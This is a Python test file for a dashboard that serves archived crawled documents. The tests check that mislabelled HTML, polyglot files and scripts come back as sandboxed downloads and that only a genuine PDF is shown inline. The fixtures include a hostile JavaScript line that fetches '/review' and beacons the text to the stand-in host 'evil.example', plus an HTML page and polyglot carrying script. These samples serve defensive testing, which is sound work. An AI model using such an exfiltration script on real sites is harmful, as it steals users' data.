"""Archived copies are typed from their bytes and can never run on the dashboard's origin (issue 12, item 1).

A crawled "PDF" that its server labelled `application/pdf, text/html` was served inline on our origin, and a
crawled script stored beside it counted as `'self'`. Through the real app over a real database and evidence store.
"""

from __future__ import annotations

import hashlib
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest
from sqlalchemy.orm import Session, sessionmaker

from dashboards.app import create_app
from tracker.blobs import EvidenceStore
from tracker.config import Settings
from tracker.store import database
from tracker.store.models import Document

NOW = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)
HOSTILE_HTML = (
    b"<!DOCTYPE html><html><body><script src='/evidence/%s'></script><p>Handlingsplan mot vold</p></body></html>"
)
SCRIPT = b"fetch('/review').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t));\n"
PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
SANDBOX = "sandbox; default-src 'none'"


@dataclass
class Evidence:
    client: httpx.AsyncClient
    factory: sessionmaker[Session]
    store: EvidenceStore

    def archive(self, body: bytes, *, fmt: str, content_type: str) -> str:
        """Store bytes as the crawler would, with the format and Content-Type the crawled server claimed."""
        sha = self.store.put(body)
        with self.factory.begin() as session:
            session.add(
                Document(sha256=sha, format=fmt, content_type=content_type, size_bytes=len(body), first_seen_at=NOW)
            )
        return sha


@pytest.fixture
async def evidence(tmp_path: Path) -> AsyncIterator[Evidence]:
    engine = database.make_engine(f"sqlite:///{tmp_path / 'evidence.sqlite3'}")
    database.upgrade(engine)
    factory = database.make_session_factory(engine)
    store = EvidenceStore(tmp_path / "evidence")
    app = create_app(Settings(var_dir=tmp_path / "var"), session_factory=factory, evidence=store, now=lambda: NOW)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://testserver") as client:
        yield Evidence(client, factory, store)
    engine.dispose()


def assert_sandboxed(response: httpx.Response) -> None:
    assert response.headers["content-security-policy"] == SANDBOX
    assert response.headers["x-content-type-options"] == "nosniff"


async def test_html_recorded_as_pdf_is_an_attachment_in_a_sandbox(evidence: Evidence) -> None:
    script = evidence.archive(SCRIPT, fmt="html", content_type="text/javascript")
    page = HOSTILE_HTML % script.encode()
    sha = evidence.archive(page, fmt="pdf", content_type="application/pdf, text/html")

    copy = await evidence.client.get(f"/evidence/{sha}")

    assert copy.status_code == 200
    assert copy.content == page
    assert hashlib.sha256(copy.content).hexdigest() == sha
    assert copy.headers["content-disposition"] == f'attachment; filename="{sha[:16]}.html"'
    assert copy.headers["content-type"] == "application/octet-stream"
    assert "html" not in copy.headers["content-type"] and "pdf" not in copy.headers["content-type"]
    assert_sandboxed(copy)


async def test_a_real_pdf_is_inline_and_viewable(evidence: Evidence) -> None:
    sha = evidence.archive(PDF, fmt="pdf", content_type="text/html; charset=utf-8")  # the label lies the other way

    copy = await evidence.client.get(f"/evidence/{sha}")

    assert copy.status_code == 200
    assert copy.content == PDF
    assert copy.headers["content-type"] == "application/pdf"
    assert copy.headers["content-disposition"] == f'inline; filename="{sha[:16]}.pdf"'
    # no sandbox: Chromium blocks its PDF viewer in a sandboxed document; nosniff keeps it a PDF
    assert "sandbox" not in copy.headers["content-security-policy"]
    assert copy.headers["x-content-type-options"] == "nosniff"


async def test_a_pdf_header_after_other_bytes_is_not_inline(evidence: Evidence) -> None:
    polyglot = b"<html><script>alert(1)</script>" + PDF
    sha = evidence.archive(polyglot, fmt="pdf", content_type="application/pdf")

    copy = await evidence.client.get(f"/evidence/{sha}")

    assert copy.headers["content-disposition"].startswith("attachment")
    assert_sandboxed(copy)


async def test_a_script_is_never_served_as_javascript(evidence: Evidence) -> None:
    for fmt, label in (("html", "text/javascript"), ("pdf", "application/pdf, application/javascript")):
        body = SCRIPT + fmt.encode()
        sha = evidence.archive(body, fmt=fmt, content_type=label)

        copy = await evidence.client.get(f"/evidence/{sha}")

        assert copy.status_code == 200
        assert "javascript" not in copy.headers["content-type"]
        assert copy.headers["content-type"] == "application/octet-stream"
        assert copy.headers["content-disposition"] == f'attachment; filename="{sha[:16]}.bin"'
        assert_sandboxed(copy)


async def test_errors_are_sandboxed_too(evidence: Evidence) -> None:
    for path in ("/evidence/" + "0" * 64, "/evidence/not-a-hash"):
        missing = await evidence.client.get(path)
        assert missing.status_code == 404
        assert_sandboxed(missing)
